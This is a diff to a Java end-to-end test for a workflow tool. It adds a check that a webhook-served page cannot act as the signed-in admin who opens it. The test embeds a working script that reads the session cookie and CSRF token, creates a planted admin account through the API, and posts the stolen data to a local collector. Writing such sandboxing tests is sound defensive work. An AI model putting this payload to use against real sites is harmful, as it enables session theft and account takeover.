@@ -4,13 +4,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.sun.net.httpserver.HttpServer;
 import io.webops.TestServer;
+import io.webops.runtime.Json;
 import java.io.BufferedReader;
 import java.io.InputStreamReader;
 import java.net.InetSocketAddress;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.AfterEach;
@@ -30,6 +33,7 @@ class CanvasEndToEndTest {
     private TestServer server;
     private HttpServer receiver;
     private final List<String> alerts = new CopyOnWriteArrayList<>();
+    private final List<String> collected = new CopyOnWriteArrayList<>();
 
     @BeforeEach
     void start() throws Exception {
@@ -42,6 +46,11 @@ class CanvasEndToEndTest {
             exchange.getResponseHeaders().add("Content-Type", "application/json");
             exchange.sendResponseHeaders(200, ok.length);
             exchange.getResponseBody().write(ok);
+            exchange.close();
+        });
+        receiver.createContext("/collect", exchange -> {
+            collected.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
+            exchange.sendResponseHeaders(204, -1);
             exchange.close();
         });
         receiver.start();
@@ -87,6 +96,57 @@ class CanvasEndToEndTest {
         assertThat(exit).as("ui/e2e/canvas.mjs exit code (its output is above)").isZero();
         assertThat(alerts).as("the alert node posted once, in the webhook-triggered run").hasSize(1);
         assertThat(alerts.get(0)).contains("UP");
+    }
+
+    @Test
+    void aWebhookAnswerWithAScriptRunsSandboxedNotAsTheSignedInAdminWhoOpensIt() throws Exception {
+        String collector = "http://127.0.0.1:" + receiver.getAddress().getPort() + "/collect";
+        // what a workflow author can answer: a page whose script uses the visitor's session to make itself an admin
+        String page = """
+                <!doctype html><title>untouched</title><pre id="marker">untouched</pre>
+                <script>
+                (async function () {
+                  var report = {};
+                  try { report.cookie = document.cookie; } catch (e) { report.cookie = 'threw ' + e.name; }
+                  var csrf = (/(?:^|; )webops_csrf=([^;]*)/.exec(report.cookie) || [])[1] || '';
+                  try {
+                    var created = await fetch('/api/users', {method: 'POST', credentials: 'include',
+                      headers: {'X-CSRF-Token': csrf, 'Content-Type': 'application/json'},
+                      body: JSON.stringify({email: 'planted@webops.test', password: 'planted-password-1', role: 'admin'})});
+                    report.post = created.status;
+                  } catch (e) { report.post = 'failed: ' + e.message; }
+                  try {
+                    var users = await fetch('/api/users', {credentials: 'include'});
+                    report.get = users.status + ' ' + (await users.text()).slice(0, 200);
+                  } catch (e) { report.get = 'failed: ' + e.message; }
+                  document.title = 'ran';
+                  document.getElementById('marker').textContent = JSON.stringify(report);
+                  fetch('COLLECTOR', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
+                })();
+                </script>""".replace("COLLECTOR", collector);
+        String id = server.create(Json.write(Map.of(
+                "name", "answers a page",
+                "trigger", Map.of("type", "webhook", "path", "page", "method", "GET", "respond", "when_finished"),
+                "nodes", List.of(Map.of("id", "in", "type", "webhook_input"),
+                        Map.of("id", "r", "type", "respond", "config", Map.of(
+                                "headers", Map.of("Content-Type", "text/html; charset=utf-8"), "body", page))),
+                "connections", List.of(Map.of("source", "in", "target", "r")))));
+        assertThat(server.post("/api/workflows/" + id + "/activate", "{}").status()).isEqualTo(200);
+        String usersBefore = users();
+
+        int exit = node("webhook-sandbox.mjs", server.base, server.base + "/webhooks/page");
+
+        assertThat(exit).as("ui/e2e/webhook-sandbox.mjs exit code (its output is above)").isZero();
+        assertThat(collected).as("what the author's script reported home").isEmpty();
+        assertThat(users()).as("the accounts after the admin opened the page").isEqualTo(usersBefore)
+                .doesNotContain("planted@webops.test", "probe@webops.test");
+    }
+
+    /** The accounts' emails, as the admin sees them through the API. */
+    private String users() throws Exception {
+        List<String> emails = new ArrayList<>();
+        server.get("/api/users").json().get("items").forEach(u -> emails.add(u.get("email").asText()));
+        return String.join(",", emails);
     }
 
     @Test
